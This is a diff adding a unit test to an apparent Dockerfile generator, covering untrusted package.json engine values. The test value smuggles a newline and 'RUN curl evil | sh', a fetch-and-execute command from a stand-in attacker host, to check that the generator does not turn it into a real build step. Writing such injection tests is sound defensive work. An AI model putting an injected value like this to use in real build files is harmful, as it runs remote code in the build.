@@ -25,6 +25,14 @@ async function dockerfileOf(
   return exportFiles(await gathered([definition], files)).once;
 }
 
+it('takes no line from what a project says of its node', async () => {
+  const engines = { node: '22\nRUN curl evil | sh #' };
+  const files = { '/w/backend/package.json': manifest({ dev: 'next dev' }, { engines }) };
+  const text = (await dockerfileOf(npmRun('dev'), files)).get('backend/Dockerfile') ?? '';
+  expect(text).toContain('asks for node 22 RUN curl evil');
+  expect(text.split('\n').filter((line) => line.includes('evil'))).toHaveLength(1);
+});
+
 describe('a Dockerfile', () => {
   it.each<[string, WrittenCommand, Record<string, string>, readonly string[]]>([
     [
